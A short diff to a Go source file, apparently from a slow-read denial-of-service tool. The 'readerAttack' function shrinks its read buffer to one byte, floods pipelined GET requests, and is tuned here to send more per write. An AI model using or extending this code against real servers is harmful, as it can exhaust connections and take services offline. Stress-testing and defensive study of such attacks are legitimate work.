@@ -205,7 +205,7 @@ func bodyAttack(ctx context.Context, a *attacker, i int, nc *net.TCPConn) error 
 func readerAttack(ctx context.Context, a *attacker, _ int, nc *net.TCPConn) error {
 	_ = nc.SetReadBuffer(1) // the kernel's least
 	_ = nc.SetWriteDeadline(time.Now().Add(dripEvery))
-	_, err := io.WriteString(nc, strings.Repeat(a.head("GET")+"\r\n", floodPiece/2/len(a.head("GET"))))
+	_, err := io.WriteString(nc, strings.Repeat(a.head("GET")+"\r\n", floodPiece*7/8/len(a.head("GET"))))
 	if err != nil && !errors.Is(err, os.ErrDeadlineExceeded) {
 		return fmt.Errorf("send: %w", err)
 	}
